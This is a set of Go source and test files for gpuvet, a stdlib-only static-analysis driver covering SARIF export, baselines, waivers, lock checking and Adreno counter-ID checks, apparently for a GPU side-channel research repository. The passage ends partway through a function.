		t.Errorf("ruleIndex %d does not point at the simtime rule", first.RuleIndex)
	}
	loc := first.Locations[0].PhysicalLocation
	if loc.ArtifactLocation.URI != "a.go" || loc.ArtifactLocation.URIBaseID != "%SRCROOT%" {
		t.Errorf("artifact location = %q base %q, want module-relative a.go under %%SRCROOT%%", loc.ArtifactLocation.URI, loc.ArtifactLocation.URIBaseID)
	}
	if loc.Region.StartLine != 3 {
		t.Errorf("startLine = %d, want 3", loc.Region.StartLine)
	}
}

func TestBaselineFilter(t *testing.T) {
	diags := fakeDiags()
	b := &Baseline{
		Schema: BaselineSchema,
		Findings: []BaselineFinding{
			{Check: "detmap", File: "b.go", Message: "sort before emit", Count: 2},
		},
	}
	newDiags, absorbed := b.Filter("/mod", diags)
	if len(absorbed) != 2 {
		t.Errorf("absorbed %d findings, want the 2 baselined detmap ones", len(absorbed))
	}
	if len(newDiags) != 1 || newDiags[0].Check != "simtime" {
		t.Errorf("new findings = %v, want only the simtime one", newDiags)
	}

	// The count is a budget, not a pattern: a third identical finding is new.
	extra := append(diags, Diagnostic{
		Pos: token.Position{Filename: "/mod/b.go", Line: 30, Column: 1}, Check: "detmap", Message: "sort before emit",
	})
	newDiags, _ = b.Filter("/mod", extra)
	if len(newDiags) != 2 {
		t.Errorf("over-budget duplicate was absorbed; new findings = %v", newDiags)
	}
}

func TestWriteBaselineRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteBaseline(&buf, "/mod", fakeDiags()); err != nil {
		t.Fatal(err)
	}
	var b Baseline
	if err := json.Unmarshal(buf.Bytes(), &b); err != nil {
		t.Fatal(err)
	}
	if b.Schema != BaselineSchema {
		t.Errorf("schema = %q", b.Schema)
	}
	if len(b.Findings) != 2 {
		t.Fatalf("findings = %+v, want 2 folded entries", b.Findings)
	}
	// Deterministic order: detmap sorts before simtime.
	if b.Findings[0].Check != "detmap" || b.Findings[0].Count != 2 {
		t.Errorf("first entry = %+v, want detmap with count 2", b.Findings[0])
	}
	if b.Findings[1].Check != "simtime" || b.Findings[1].Count != 0 {
		t.Errorf("second entry = %+v, want simtime singleton (count omitted)", b.Findings[1])
	}
	// A written baseline must absorb exactly the findings it was built from.
	if newDiags, _ := b.Filter("/mod", fakeDiags()); len(newDiags) != 0 {
		t.Errorf("round-tripped baseline left findings unabsorbed: %v", newDiags)
	}
}

func TestWaiverLedgerCheck(t *testing.T) {
	ledger := &WaiverLedger{
		Schema:  WaiverSchema,
		Budgets: map[string]int{"simtime": 2},
		Entries: []WaiverEntry{
			{Check: "simtime", File: "x.go", Why: "a"},
			{Check: "simtime", File: "y.go", Why: "b"},
		},
	}
	if problems := ledger.Check(map[string]int{"simtime": 2}); len(problems) != 0 {
		t.Errorf("exact ledger reported problems: %v", problems)
	}
	// Growth without a ledger entry fails.
	problems := ledger.Check(map[string]int{"simtime": 3})
	if len(problems) != 1 || !strings.Contains(problems[0], "budgets 2") {
		t.Errorf("over-budget drift not caught: %v", problems)
	}
	// Removing a directive without ratcheting the ledger fails too.
	problems = ledger.Check(map[string]int{"simtime": 1})
	if len(problems) != 1 || !strings.Contains(problems[0], "ratchet") {
		t.Errorf("stale budget not caught: %v", problems)
	}
	// A check with directives but no budget at all fails.
	problems = ledger.Check(map[string]int{"simtime": 2, "lockcheck": 1})
	if len(problems) != 1 || !strings.Contains(problems[0], `"lockcheck"`) {
		t.Errorf("unbudgeted check not caught: %v", problems)
	}
	// Budgets must be documented: entries and budget tally per check.
	undocumented := &WaiverLedger{
		Schema:  WaiverSchema,
		Budgets: map[string]int{"simtime": 2},
		Entries: []WaiverEntry{{Check: "simtime", File: "x.go", Why: "a"}},
	}
	problems = undocumented.Check(map[string]int{"simtime": 2})
	if len(problems) != 1 || !strings.Contains(problems[0], "entries") {
		t.Errorf("entry/budget mismatch not caught: %v", problems)
	}
}
