package analysis

import (
	"encoding/json"
	"io"
	"path/filepath"
)

// SARIF 2.1.0 export. The driver emits one run with the full rule table
// (every registered analyzer, whether or not it fired) and one result
// per finding, with file URIs relative to the module root under the
// standard %SRCROOT% base. The output is deterministic: rules follow
// canonical order and results inherit the driver's position sort.

const (
	sarifVersion = "2.1.0"
	sarifSchema  = "https://raw.githubusercontent.com/oasis-tcs/sarif-spec/master/Schemata/sarif-schema-2.1.0.json"
)

type sarifLog struct {
	Schema  string     `json:"$schema"`
	Version string     `json:"version"`
	Runs    []sarifRun `json:"runs"`
}

type sarifRun struct {
	Tool    sarifTool     `json:"tool"`
	Results []sarifResult `json:"results"`
}

type sarifTool struct {
	Driver sarifDriver `json:"driver"`
}

type sarifDriver struct {
	Name           string      `json:"name"`
	InformationURI string      `json:"informationUri,omitempty"`
	Rules          []sarifRule `json:"rules"`
}

type sarifRule struct {
	ID               string            `json:"id"`
	ShortDescription sarifText         `json:"shortDescription"`
	Properties       map[string]string `json:"properties,omitempty"`
	DefaultConfig    sarifRuleConfig   `json:"defaultConfiguration"`
}

type sarifRuleConfig struct {
	Level string `json:"level"`
}

type sarifText struct {
	Text string `json:"text"`
}

type sarifResult struct {
	RuleID    string          `json:"ruleId"`
	RuleIndex int             `json:"ruleIndex"`
	Level     string          `json:"level"`
	Message   sarifText       `json:"message"`
	Locations []sarifLocation `json:"locations"`
}

type sarifLocation struct {
	PhysicalLocation sarifPhysical `json:"physicalLocation"`
}

type sarifPhysical struct {
	ArtifactLocation sarifArtifact `json:"artifactLocation"`
	Region           sarifRegion   `json:"region"`
}

type sarifArtifact struct {
	URI       string `json:"uri"`
	URIBaseID string `json:"uriBaseId,omitempty"`
}

type sarifRegion struct {
	StartLine   int `json:"startLine"`
	StartColumn int `json:"startColumn,omitempty"`
}

// WriteSARIF renders findings as a SARIF 2.1.0 log. moduleRoot
// relativizes file paths; analyzers supplies the rule table.
func WriteSARIF(w io.Writer, moduleRoot string, analyzers []*Analyzer, diags []Diagnostic) error {
	ruleIndex := map[string]int{}
	rules := make([]sarifRule, 0, len(analyzers))
	for i, a := range analyzers {
		ruleIndex[a.Name] = i
		rules = append(rules, sarifRule{
			ID:               a.Name,
			ShortDescription: sarifText{Text: a.Doc},
			Properties:       map[string]string{"category": a.Category},
			DefaultConfig:    sarifRuleConfig{Level: a.Severity},
		})
	}
	results := make([]sarifResult, 0, len(diags))
	for _, d := range diags {
		level := "error"
		idx, known := ruleIndex[d.Check]
		if known {
			level = analyzers[idx].Severity
		} else {
			idx = -1
		}
		results = append(results, sarifResult{
			RuleID:    d.Check,
			RuleIndex: idx,
			Level:     level,
			Message:   sarifText{Text: d.Message},
			Locations: []sarifLocation{{
				PhysicalLocation: sarifPhysical{
					ArtifactLocation: sarifArtifact{
						URI:       relativeURI(moduleRoot, d.Pos.Filename),
						URIBaseID: "%SRCROOT%",
					},
					Region: sarifRegion{StartLine: d.Pos.Line, StartColumn: d.Pos.Column},
				},
			}},
		})
	}
	log := sarifLog{
		Schema:  sarifSchema,
		Version: sarifVersion,
		Runs: []sarifRun{{
			Tool: sarifTool{Driver: sarifDriver{
				Name:           "gpuvet",
				InformationURI: "https://github.com/gpuleak/gpuleak#static-analysis--ci",
				Rules:          rules,
			}},
			Results: results,
		}},
	}
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(&log)
}

// relativeURI renders a path module-root-relative with forward slashes
// (falling back to the absolute path when outside the root).
func relativeURI(moduleRoot, path string) string {
	if moduleRoot != "" {
		if rel, err := filepath.Rel(moduleRoot, path); err == nil && !filepath.IsAbs(rel) && rel != ".." && !hasDotDotPrefix(rel) {
			return filepath.ToSlash(rel)
		}
	}
	return filepath.ToSlash(path)
}

func hasDotDotPrefix(rel string) bool {
	return len(rel) >= 3 && rel[:3] == ".."+string(filepath.Separator)
}
