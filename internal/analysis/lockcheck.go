package analysis

import (
	"go/ast"
	"go/token"
	"go/types"
)

// LockCheck is a heuristic for mutex-guarded struct fields accessed by
// methods that never touch the mutex. By Go convention a `mu sync.Mutex`
// field guards the contiguous block of fields declared directly below it;
// a method that reads or writes one of those fields without mentioning mu
// (locking it, or passing it along) is a data-race candidate. Helper
// methods intentionally called with the lock already held should carry
// //gpuvet:ignore lockcheck -- held by caller.
var LockCheck = &Analyzer{
	Name:     "lockcheck",
	Category: "hygiene",
	Doc:      "flag methods touching mutex-guarded fields without locking the mutex",
	Run:      runLockCheck,
}

// guardedStruct records one struct with a mutex and its guarded fields.
type guardedStruct struct {
	mutexField string
	guarded    map[string]bool
}

func runLockCheck(p *Pass) {
	structs := map[*types.TypeName]*guardedStruct{}
	for _, f := range p.Pkg.Files {
		for _, decl := range f.Decls {
			gd, ok := decl.(*ast.GenDecl)
			if !ok || gd.Tok != token.TYPE {
				continue
			}
			for _, spec := range gd.Specs {
				ts, ok := spec.(*ast.TypeSpec)
				if !ok {
					continue
				}
				st, ok := ts.Type.(*ast.StructType)
				if !ok {
					continue
				}
				obj, ok := p.Pkg.Info.Defs[ts.Name].(*types.TypeName)
				if !ok {
					continue
				}
				if gs := p.findGuarded(st); gs != nil {
					structs[obj] = gs
				}
			}
		}
	}
	if len(structs) == 0 {
		return
	}
	for _, f := range p.Pkg.Files {
		for _, decl := range f.Decls {
			fd, ok := decl.(*ast.FuncDecl)
			if !ok || fd.Recv == nil || fd.Body == nil {
				continue
			}
			recv := p.receiverTypeName(fd)
			gs := structs[recv]
			if gs == nil {
				continue
			}
			touchesMutex := false
			var firstGuarded *ast.SelectorExpr
			guardedName := ""
			ast.Inspect(fd.Body, func(n ast.Node) bool {
				sel, ok := n.(*ast.SelectorExpr)
				if !ok {
					return true
				}
				selection, ok := p.Pkg.Info.Selections[sel]
				if !ok || !selectionOn(selection, recv) {
					return true
				}
				name := selection.Obj().Name()
				switch selection.Kind() {
				case types.FieldVal:
					if name == gs.mutexField {
						touchesMutex = true
					} else if gs.guarded[name] && firstGuarded == nil {
						firstGuarded = sel
						guardedName = name
					}
				case types.MethodVal:
					// Promoted or forwarded sync primitives (embedded
					// sync.Mutex) count as touching the mutex.
					if fn, ok := selection.Obj().(*types.Func); ok && isSyncLockMethod(fn) {
						touchesMutex = true
					}
				}
				return true
			})
			if firstGuarded != nil && !touchesMutex {
				p.Reportf(firstGuarded.Pos(),
					"method %s accesses %q (guarded by %q) without locking it (//gpuvet:ignore lockcheck -- held by caller, if so)",
					fd.Name.Name, guardedName, gs.mutexField)
			}
		}
	}
}

// findGuarded locates the first mutex field and the contiguous block of
// fields declared below it (a blank line ends the guarded block).
func (p *Pass) findGuarded(st *ast.StructType) *guardedStruct {
	fields := st.Fields.List
	for i, field := range fields {
		if !isMutexType(p.TypeOf(field.Type)) {
			continue
		}
		name := "Mutex"
		if len(field.Names) > 0 {
			name = field.Names[0].Name
		}
		gs := &guardedStruct{mutexField: name, guarded: map[string]bool{}}
		prevLine := p.Fset.Position(field.End()).Line
		for _, g := range fields[i+1:] {
			if p.Fset.Position(g.Pos()).Line > prevLine+1 {
				break // blank line: new field group, no longer guarded
			}
			for _, n := range g.Names {
				gs.guarded[n.Name] = true
			}
			prevLine = p.Fset.Position(g.End()).Line
		}
		if len(gs.guarded) == 0 {
			return nil
		}
		return gs
	}
	return nil
}

func (p *Pass) receiverTypeName(fd *ast.FuncDecl) *types.TypeName {
	t := fd.Recv.List[0].Type
	for {
		switch u := t.(type) {
		case *ast.StarExpr:
			t = u.X
		case *ast.ParenExpr:
			t = u.X
		case *ast.Ident:
			tn, _ := p.Pkg.Info.Uses[u].(*types.TypeName)
			return tn
		default:
			return nil
		}
	}
}

// selectionOn reports whether a selection's receiver is the named type
// (through any level of pointers).
func selectionOn(sel *types.Selection, tn *types.TypeName) bool {
	if tn == nil {
		return false
	}
	t := sel.Recv()
	for {
		if ptr, ok := t.Underlying().(*types.Pointer); ok {
			t = ptr.Elem()
			continue
		}
		break
	}
	named, ok := types.Unalias(t).(*types.Named)
	return ok && named.Obj() == tn
}

func isMutexType(t types.Type) bool {
	if t == nil {
		return false
	}
	if ptr, ok := t.Underlying().(*types.Pointer); ok {
		t = ptr.Elem()
	}
	named, ok := types.Unalias(t).(*types.Named)
	if !ok {
		return false
	}
	obj := named.Obj()
	if obj.Pkg() == nil || obj.Pkg().Path() != "sync" {
		return false
	}
	return obj.Name() == "Mutex" || obj.Name() == "RWMutex"
}

func isSyncLockMethod(fn *types.Func) bool {
	if fn.Pkg() == nil || fn.Pkg().Path() != "sync" {
		return false
	}
	switch fn.Name() {
	case "Lock", "Unlock", "RLock", "RUnlock", "TryLock", "TryRLock":
		return true
	}
	return false
}

func init() { Register(LockCheck) }
