package analysis

import (
	"go/ast"
	"go/types"
	"strings"
)

// This file holds the shared type-walk utilities every analyzer builds
// on: callee resolution, enclosing-function lookup, context/error type
// tests, and package-scope queries. Analyzers should prefer these over
// hand-rolled AST spelunking so the suite interprets Go the same way
// everywhere.

// calledFunc resolves a call's callee to its types.Func (nil for
// builtins, conversions and indirect calls through variables).
func calledFunc(p *Pass, call *ast.CallExpr) *types.Func {
	var id *ast.Ident
	switch fun := ast.Unparen(call.Fun).(type) {
	case *ast.Ident:
		id = fun
	case *ast.SelectorExpr:
		id = fun.Sel
	default:
		return nil
	}
	fn, _ := p.Pkg.Info.Uses[id].(*types.Func)
	return fn
}

// isTestFile reports whether the node's position lies in a _test.go file.
// The loader only merges test files in -tests mode, but analyzers whose
// rules exempt tests (ctxflow) must stay correct in that mode too.
func isTestFile(p *Pass, n ast.Node) bool {
	return strings.HasSuffix(p.Fset.Position(n.Pos()).Filename, "_test.go")
}

// eachFuncDecl visits every function declaration with a body in the
// package, including the file it lives in.
func eachFuncDecl(pkg *Package, visit func(file *ast.File, fn *ast.FuncDecl)) {
	for _, file := range pkg.Files {
		for _, decl := range file.Decls {
			if fn, ok := decl.(*ast.FuncDecl); ok && fn.Body != nil {
				visit(file, fn)
			}
		}
	}
}

// enclosingFunc returns the innermost function declaration whose body
// spans pos (nil when pos sits at package level).
func enclosingFunc(pkg *Package, n ast.Node) *ast.FuncDecl {
	for _, file := range pkg.Files {
		if n.Pos() < file.Pos() || file.End() < n.Pos() {
			continue
		}
		for _, decl := range file.Decls {
			if fn, ok := decl.(*ast.FuncDecl); ok && fn.Body != nil &&
				fn.Pos() <= n.Pos() && n.End() <= fn.End() {
				return fn
			}
		}
	}
	return nil
}

// isContextType reports whether t is exactly context.Context.
func isContextType(t types.Type) bool {
	named, ok := t.(*types.Named)
	if !ok {
		return false
	}
	obj := named.Obj()
	return obj.Name() == "Context" && obj.Pkg() != nil && obj.Pkg().Path() == "context"
}

// firstParamIsContext reports whether the signature's leading parameter
// is a context.Context.
func firstParamIsContext(sig *types.Signature) bool {
	return sig != nil && sig.Params().Len() > 0 && isContextType(sig.Params().At(0).Type())
}

// isErrorType reports whether t is the built-in error interface.
func isErrorType(t types.Type) bool {
	return t != nil && types.Identical(t, types.Universe.Lookup("error").Type())
}

// implementsError reports whether t (or *t) satisfies the error
// interface — the test for concrete error types and sentinels alike.
func implementsError(t types.Type) bool {
	if t == nil {
		return false
	}
	errIface := types.Universe.Lookup("error").Type().Underlying().(*types.Interface)
	return types.Implements(t, errIface) || types.Implements(types.NewPointer(t), errIface)
}

// isPackageLevel reports whether the object is declared at package scope.
func isPackageLevel(obj types.Object) bool {
	return obj != nil && obj.Pkg() != nil && obj.Parent() == obj.Pkg().Scope()
}

// rootIdentObj peels selectors, indexes and parens off an expression and
// resolves the base identifier's object (nil when the base is not a
// plain identifier: calls, literals, ...).
func rootIdentObj(p *Pass, e ast.Expr) types.Object {
	for {
		switch x := ast.Unparen(e).(type) {
		case *ast.Ident:
			if obj := p.Pkg.Info.Uses[x]; obj != nil {
				return obj
			}
			return p.Pkg.Info.Defs[x]
		case *ast.SelectorExpr:
			e = x.X
		case *ast.IndexExpr:
			e = x.X
		case *ast.StarExpr:
			e = x.X
		default:
			return nil
		}
	}
}

// recvNamed unwraps a method receiver type to its named type (through
// one pointer).
func recvNamed(t types.Type) *types.Named {
	if ptr, ok := t.(*types.Pointer); ok {
		t = ptr.Elem()
	}
	named, _ := t.(*types.Named)
	return named
}

// funcDisplayName renders a declaration as "Name" or "(Recv).Name" /
// "(*Recv).Name" — the spelling the hotalloc budget file keys on.
func funcDisplayName(fn *ast.FuncDecl) string {
	if fn.Recv == nil || len(fn.Recv.List) == 0 {
		return fn.Name.Name
	}
	recv := fn.Recv.List[0].Type
	switch r := recv.(type) {
	case *ast.StarExpr:
		if id, ok := r.X.(*ast.Ident); ok {
			return "(*" + id.Name + ")." + fn.Name.Name
		}
	case *ast.Ident:
		return "(" + r.Name + ")." + fn.Name.Name
	}
	return fn.Name.Name
}
