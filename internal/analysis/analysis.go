// Package analysis is a stdlib-only static-analysis driver enforcing this
// repository's simulation and KGSL invariants. It loads every package of
// the module with go/parser + go/types (no golang.org/x/tools dependency:
// the build environment is offline) and runs repo-specific checks over
// the typed syntax trees:
//
//	simtime      - wall-clock time.* calls are forbidden in internal/
//	ctxflow      - context.Context must thread end-to-end: no
//	               Background/TODO outside tests and documented legacy
//	               wrappers; context holders must call *Context variants
//	detmap       - map iteration feeding ordered output must sort first
//	countergroup - counter group/countable IDs must use adreno constants
//	floateq      - no ==/!= on floats in classifier distance math
//	lockcheck    - mutex-guarded struct fields accessed without locking
//	ioctlsize    - iowr(nr, size) sizes must match the marshalled structs
//	obsevent     - obs event names must be package-level registrations;
//	               Emit/Start timestamps must never derive from the wall clock
//	errtaxonomy  - error identity flows through errors.Is/As, never
//	               string matching; the facade taxonomy lives in errors.go
//	hotalloc     - hot-path functions stay within the committed
//	               escape-site budget (go build -gcflags=-m)
//	doccheck     - exported symbols on the documented surface (facade,
//	               serve, obs, fault) must carry godoc comments
//
// Each check registers itself (Register) with metadata the driver shares
// with the SARIF exporter, the baseline filter and the waiver ledger.
// A finding can be suppressed with a trailing or preceding comment of the
// form
//
//	//gpuvet:ignore check1,check2 -- justification
//
// naming the checks to silence (no names silences all checks on that
// line); every directive must be accounted for in the committed
// gpuvet-waivers.json ledger. cmd/gpuvet is the command-line front end.
package analysis

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"sort"
	"strings"
)

// Diagnostic is one finding.
type Diagnostic struct {
	Pos     token.Position
	Check   string
	Message string
}

func (d Diagnostic) String() string {
	return fmt.Sprintf("%s: [%s] %s", d.Pos, d.Check, d.Message)
}

// Package is one loaded, type-checked package ready for analysis.
type Package struct {
	Path  string
	Dir   string
	Fset  *token.FileSet
	Files []*ast.File
	Types *types.Package
	Info  *types.Info

	// ignores maps filename -> line -> checks suppressed on that line
	// ("" suppresses every check).
	ignores map[string]map[int][]string
}

// Analyzer is one named check, registered with Register so the driver,
// the -list output, the SARIF rule table and the waiver ledger all share
// one source of metadata.
type Analyzer struct {
	Name string
	Doc  string
	// Category groups checks for reporting: "determinism",
	// "driver-fidelity", "taxonomy", "hygiene", "performance" or "docs".
	Category string
	// Severity maps onto the SARIF level: "error" (the default when
	// empty) or "warning".
	Severity string
	// Applies filters by package import path; nil runs everywhere.
	Applies func(pkgPath string) bool
	Run     func(*Pass)
}

// Config carries driver-level inputs that individual analyzers need but
// that do not belong to any one package: the module root for analyzers
// that shell out to the go tool, and the hot-path allocation budget.
// A nil *Config disables the analyzers that require one (hotalloc).
type Config struct {
	// ModuleRoot is the directory holding go.mod; commands run from here.
	ModuleRoot string
	// HotAlloc is the parsed per-function allocation budget
	// (gpuvet-hotalloc.json). Nil disables the hotalloc analyzer.
	HotAlloc *HotAllocBudget
}

// Pass carries one analyzer's run over one package.
type Pass struct {
	Analyzer *Analyzer
	Pkg      *Package
	Fset     *token.FileSet
	// Config is the driver configuration; nil outside RunConfig.
	Config *Config

	diags *[]Diagnostic
}

// Reportf records a finding unless a gpuvet:ignore comment suppresses it.
func (p *Pass) Reportf(pos token.Pos, format string, args ...any) {
	position := p.Fset.Position(pos)
	if p.Pkg.suppressed(position, p.Analyzer.Name) {
		return
	}
	*p.diags = append(*p.diags, Diagnostic{
		Pos:     position,
		Check:   p.Analyzer.Name,
		Message: fmt.Sprintf(format, args...),
	})
}

// TypeOf is shorthand for the package's type information.
func (p *Pass) TypeOf(e ast.Expr) types.Type { return p.Pkg.Info.TypeOf(e) }

func (pkg *Package) suppressed(pos token.Position, check string) bool {
	lines := pkg.ignores[pos.Filename]
	for _, c := range lines[pos.Line] {
		if c == "" || c == check {
			return true
		}
	}
	return false
}

const ignorePrefix = "gpuvet:ignore"

// parseIgnoreDirective decodes one comment as a gpuvet:ignore directive,
// returning the checks it silences ({""} for a bare directive silencing
// everything). The second result is false for ordinary comments. This is
// the single parser shared by the suppression index and the waiver
// ledger, so the two can never disagree about what counts as a waiver.
func parseIgnoreDirective(comment string) ([]string, bool) {
	text := strings.TrimPrefix(strings.TrimPrefix(comment, "//"), "/*")
	text = strings.TrimSpace(text)
	if !strings.HasPrefix(text, ignorePrefix) {
		return nil, false
	}
	text = strings.TrimSpace(strings.TrimPrefix(text, ignorePrefix))
	// Everything after " -- " is a human justification.
	if i := strings.Index(text, "--"); i >= 0 {
		text = strings.TrimSpace(text[:i])
	}
	if text == "" {
		return []string{""}, true
	}
	var checks []string
	for _, c := range strings.FieldsFunc(text, func(r rune) bool { return r == ',' || r == ' ' }) {
		checks = append(checks, c)
	}
	return checks, true
}

// buildIgnoreIndex scans comments for gpuvet:ignore directives. A
// directive applies to its own line and the line below it, so it works
// both as a trailing comment and as a standalone line above the finding.
func buildIgnoreIndex(fset *token.FileSet, files []*ast.File) map[string]map[int][]string {
	idx := map[string]map[int][]string{}
	for _, f := range files {
		for _, cg := range f.Comments {
			for _, c := range cg.List {
				checks, ok := parseIgnoreDirective(c.Text)
				if !ok {
					continue
				}
				pos := fset.Position(c.Pos())
				m := idx[pos.Filename]
				if m == nil {
					m = map[int][]string{}
					idx[pos.Filename] = m
				}
				m[pos.Line] = append(m[pos.Line], checks...)
				m[pos.Line+1] = append(m[pos.Line+1], checks...)
			}
		}
	}
	return idx
}

// Run applies the analyzers to the packages with no driver configuration
// (analyzers needing one, like hotalloc, are skipped). Findings come back
// in deterministic (position, check) order.
func Run(pkgs []*Package, analyzers []*Analyzer) []Diagnostic {
	return RunConfig(nil, pkgs, analyzers)
}

// RunConfig is Run with a driver configuration for analyzers that need
// module-level inputs (hotalloc's budget, the module root).
func RunConfig(cfg *Config, pkgs []*Package, analyzers []*Analyzer) []Diagnostic {
	var diags []Diagnostic
	for _, pkg := range pkgs {
		for _, a := range analyzers {
			if a.Applies != nil && !a.Applies(pkg.Path) {
				continue
			}
			a.Run(&Pass{Analyzer: a, Pkg: pkg, Fset: pkg.Fset, Config: cfg, diags: &diags})
		}
	}
	sort.Slice(diags, func(i, j int) bool {
		a, b := diags[i], diags[j]
		if a.Pos.Filename != b.Pos.Filename {
			return a.Pos.Filename < b.Pos.Filename
		}
		if a.Pos.Line != b.Pos.Line {
			return a.Pos.Line < b.Pos.Line
		}
		if a.Pos.Column != b.Pos.Column {
			return a.Pos.Column < b.Pos.Column
		}
		return a.Check < b.Check
	})
	return diags
}

// isInternalPath reports whether an import path sits under an internal/
// tree — the part of the module where simulation invariants are enforced.
func isInternalPath(path string) bool {
	return strings.HasPrefix(path, "internal/") || strings.Contains(path, "/internal/")
}
