package analysis

import (
	"go/ast"
	"go/constant"
	"go/types"
	"strings"
)

// CounterGroup flags magic numeric literals where Adreno counter group or
// countable IDs are expected. The paper's attack polls exact register IDs
// from msm_kgsl.h through IOCTL_KGSL_PERFCOUNTER_READ; a literal 0x19
// that silently drifts from adreno.GroupLRZ invalidates every trained
// centroid, so the named constants are mandatory. The check derives the
// constant tables from the adreno package itself — nothing is hardcoded
// that could drift on its own.
var CounterGroup = &Analyzer{
	Name:     "countergroup",
	Category: "driver-fidelity",
	Doc:      "require adreno.Group*/countable constants instead of magic counter IDs",
	Run:      runCounterGroup,
}

// adrenoConsts are the group/countable constant tables extracted from a
// loaded adreno package.
type adrenoConsts struct {
	pkg *types.Package
	// groupByValue maps group ID value -> "GroupLRZ"-style constant name.
	groupByValue map[uint64]string
	// countables maps group prefix ("LRZ") -> countable value -> name.
	countables map[string]map[uint64]string
}

func loadAdrenoConsts(pkg *Package) *adrenoConsts {
	var adreno *types.Package
	if isAdrenoPath(pkg.Path) {
		adreno = pkg.Types
	} else {
		for _, imp := range pkg.Types.Imports() {
			if isAdrenoPath(imp.Path()) {
				adreno = imp
				break
			}
		}
	}
	if adreno == nil {
		return nil
	}
	ac := &adrenoConsts{
		pkg:          adreno,
		groupByValue: map[uint64]string{},
		countables:   map[string]map[uint64]string{},
	}
	scope := adreno.Scope()
	var prefixes []string
	for _, name := range scope.Names() {
		c, ok := scope.Lookup(name).(*types.Const)
		if !ok || c.Val().Kind() != constant.Int {
			continue
		}
		if rest, found := strings.CutPrefix(name, "Group"); found && rest != "" {
			if v, exact := constant.Uint64Val(c.Val()); exact {
				ac.groupByValue[v] = name
				prefixes = append(prefixes, rest)
			}
		}
	}
	for _, name := range scope.Names() {
		c, ok := scope.Lookup(name).(*types.Const)
		if !ok || c.Val().Kind() != constant.Int || strings.HasPrefix(name, "Group") {
			continue
		}
		for _, pre := range prefixes {
			if strings.HasPrefix(name, pre) {
				if v, exact := constant.Uint64Val(c.Val()); exact {
					m := ac.countables[pre]
					if m == nil {
						m = map[uint64]string{}
						ac.countables[pre] = m
					}
					// First writer wins; adreno declares one constant
					// per (prefix, value).
					if _, dup := m[v]; !dup {
						m[v] = name
					}
				}
				break
			}
		}
	}
	return ac
}

func isAdrenoPath(path string) bool { return strings.HasSuffix(path, "internal/adreno") }

func runCounterGroup(p *Pass) {
	ac := loadAdrenoConsts(p.Pkg)
	if ac == nil {
		return // package has no adreno dependency, nothing to misuse
	}
	qual := "adreno."
	if p.Pkg.Types == ac.pkg {
		qual = ""
	}
	for _, f := range p.Pkg.Files {
		ast.Inspect(f, func(n ast.Node) bool {
			switch n := n.(type) {
			case *ast.CompositeLit:
				p.checkCounterLit(ac, qual, n)
			case *ast.CallExpr:
				p.checkGroupCall(ac, qual, n)
			}
			return true
		})
	}
}

// checkCounterLit inspects composite literals that carry counter IDs:
// adreno.CounterKey values (fields Group/Countable) and KGSL request
// structs (fields GroupID/Countable).
func (p *Pass) checkCounterLit(ac *adrenoConsts, qual string, clit *ast.CompositeLit) {
	t := p.TypeOf(clit)
	if t == nil {
		return
	}
	st, ok := t.Underlying().(*types.Struct)
	if !ok {
		return
	}
	groupField := ""
	for i := 0; i < st.NumFields(); i++ {
		switch st.Field(i).Name() {
		case "GroupID":
			groupField = "GroupID"
		case "Group":
			if isCounterKey(t) {
				groupField = "Group"
			}
		}
	}
	if groupField == "" {
		return
	}
	groupExpr := structFieldExpr(st, clit, groupField)
	countableExpr := structFieldExpr(st, clit, "Countable")
	if groupExpr != nil && p.isMagicConst(groupExpr) {
		v, ok := p.constUint(groupExpr)
		if !ok {
			return
		}
		if name, known := ac.groupByValue[v]; known {
			p.Reportf(groupExpr.Pos(), "magic counter group ID %#x: use %s%s (msm_kgsl.h IDs must not drift)", v, qual, name)
		} else {
			p.Reportf(groupExpr.Pos(), "magic counter group ID %#x matches no adreno.Group* constant (unknown or drifted msm_kgsl.h group)", v)
		}
	}
	// A countable literal is only flagged when a named constant exists
	// for that exact (group, value) pair; bare table definitions for
	// unnamed countables stay legal.
	if countableExpr != nil && groupExpr != nil && p.isMagicConst(countableExpr) {
		gv, gok := p.constUint(groupExpr)
		cv, cok := p.constUint(countableExpr)
		if !gok || !cok {
			return
		}
		groupName, known := ac.groupByValue[gv]
		if !known {
			return
		}
		prefix := strings.TrimPrefix(groupName, "Group")
		if name, has := ac.countables[prefix][cv]; has {
			p.Reportf(countableExpr.Pos(), "magic countable %d in group %s: use %s%s", cv, prefix, qual, name)
		}
	}
}

// checkGroupCall flags literal group IDs passed to the adreno enumeration
// helpers (GroupName, CountersInGroup).
func (p *Pass) checkGroupCall(ac *adrenoConsts, qual string, call *ast.CallExpr) {
	var id *ast.Ident
	switch fun := call.Fun.(type) {
	case *ast.SelectorExpr:
		id = fun.Sel
	case *ast.Ident:
		id = fun
	default:
		return
	}
	fn, ok := p.Pkg.Info.Uses[id].(*types.Func)
	if !ok || fn.Pkg() != ac.pkg {
		return
	}
	if fn.Name() != "GroupName" && fn.Name() != "CountersInGroup" {
		return
	}
	if len(call.Args) == 0 || !p.isMagicConst(call.Args[0]) {
		return
	}
	v, ok := p.constUint(call.Args[0])
	if !ok {
		return
	}
	if name, known := ac.groupByValue[v]; known {
		p.Reportf(call.Args[0].Pos(), "magic counter group ID %#x passed to %s: use %s%s", v, fn.Name(), qual, name)
	} else {
		p.Reportf(call.Args[0].Pos(), "magic counter group ID %#x passed to %s matches no adreno.Group* constant", v, fn.Name())
	}
}

// isCounterKey reports whether t is the adreno.CounterKey type.
func isCounterKey(t types.Type) bool {
	named, ok := types.Unalias(t).(*types.Named)
	if !ok {
		return false
	}
	obj := named.Obj()
	return obj.Name() == "CounterKey" && obj.Pkg() != nil && isAdrenoPath(obj.Pkg().Path())
}

// structFieldExpr returns the composite-literal element initializing the
// named field, handling both keyed and positional forms.
func structFieldExpr(st *types.Struct, clit *ast.CompositeLit, field string) ast.Expr {
	for i, elt := range clit.Elts {
		if kv, ok := elt.(*ast.KeyValueExpr); ok {
			if id, ok := kv.Key.(*ast.Ident); ok && id.Name == field {
				return kv.Value
			}
			continue
		}
		// Positional literal: element order is field order.
		if i < st.NumFields() && st.Field(i).Name() == field {
			return elt
		}
	}
	return nil
}

// isMagicConst reports whether e is a compile-time constant expression
// spelled without any named constant (e.g. 0x19, uint32(5), 4+1).
func (p *Pass) isMagicConst(e ast.Expr) bool {
	tv, ok := p.Pkg.Info.Types[e]
	if !ok || tv.Value == nil || tv.Value.Kind() != constant.Int {
		return false
	}
	magic := true
